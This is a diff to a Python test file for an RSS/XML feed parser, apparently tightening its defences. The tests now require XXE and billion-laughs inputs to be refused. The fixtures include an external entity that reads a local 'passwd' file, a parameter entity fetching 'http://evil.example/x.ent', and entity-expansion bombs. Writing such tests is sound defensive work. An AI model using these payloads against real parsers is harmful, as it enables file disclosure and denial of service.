@@ -15,7 +15,7 @@ URL = "https://example.com/feed"
 
 
 def parse(body: bytes, content_type: str = "application/xml"):
-    return parse_feed(body, {"content-type": content_type}, URL)
+    return parse_feed(body, {"content-type": content_type})
 
 
 def test_rss2():
@@ -138,31 +138,53 @@ def test_a_body_that_names_a_file_is_not_opened(tmp_path):
         parse(str(secret).encode())
 
 
-def test_external_entities_are_not_read(tmp_path):
+def test_external_entities_are_refused(tmp_path):
     secret = tmp_path / "passwd"
     secret.write_text("root:x:0:0 SECRET")
     body = f"""<?xml version="1.0"?>
 <!DOCTYPE rss [<!ENTITY xxe SYSTEM "file://{secret}">]>
 <rss version="2.0"><channel><title>t</title><item><title>&xxe;</title><guid>1</guid>
 <description>&xxe;</description></item></channel></rss>""".encode()
-    try:
-        feed = parse(body)
-    except FeedError:
-        return
-    assert all("SECRET" not in (e.title or "") + (e.summary_html or "") for e in feed.entries)
+    with pytest.raises(FeedError) as info:
+        parse(body)
+    assert info.value.kind is FeedErrorKind.XML_BOMB
 
 
-def test_billion_laughs_is_refused_quickly():
-    lol = ['<!ENTITY lol0 "lol">'] + [
-        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
-    ]
+LOL = ['<!ENTITY lol0 "lol">'] + [
+    f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
+]
+
+
+@pytest.mark.parametrize(
+    "doctype",
+    [
+        "<!DOCTYPE rss [" + "".join(LOL) + "]>",
+        "<!DOCTYPE rss [\n" + "\n".join(LOL) + "\n]>",  # one per line, as feedparser likes
+        '<!DOCTYPE rss [<!ENTITY % ext SYSTEM "http://evil.example/x.ent"> %ext;]>',
+        "<!DOCTYPE rss [<!entity lol1 '&lol0;&lol0;'>]>",
+    ],
+)
+def test_entity_declarations_are_refused_as_a_bomb(doctype):
     body = (
-        "<?xml version='1.0'?><!DOCTYPE rss [" + "".join(lol) + "]>"
+        f"<?xml version='1.0'?>{doctype}"
         "<rss version='2.0'><channel><title>&lol9;</title><item><title>&lol9;</title>"
         "<guid>1</guid></item></channel></rss>"
     ).encode()
-    try:
-        feed = parse(body)
-    except FeedError:
-        return
-    assert all(len(e.title or "") < 1_000_000 for e in feed.entries)
+    with pytest.raises(FeedError) as info:
+        parse(body)
+    assert info.value.kind is FeedErrorKind.XML_BOMB
+    assert str(info.value).startswith("xml_bomb: a DTD declares an entity")
+    with pytest.raises(FeedError):
+        parse(body.decode().encode("utf-16"))
+
+
+def test_plain_text_entities_and_their_look_alikes_are_read():
+    body = (
+        b"<?xml version='1.0'?>\n<!DOCTYPE rss [\n<!ENTITY id \"tag:example.com,\">\n]>"
+        b"<rss version='2.0'><channel><title>t</title><item>"
+        b"<title><![CDATA[<!ENTITY x SYSTEM 'y'> is how XXE starts]]></title>"
+        b"<guid isPermaLink='false'>&id;1</guid></item></channel></rss>"
+    )
+    (entry,) = parse(body).entries
+    assert entry.guid == "tag:example.com,1"
+    assert entry.title is not None and "XXE" in entry.title
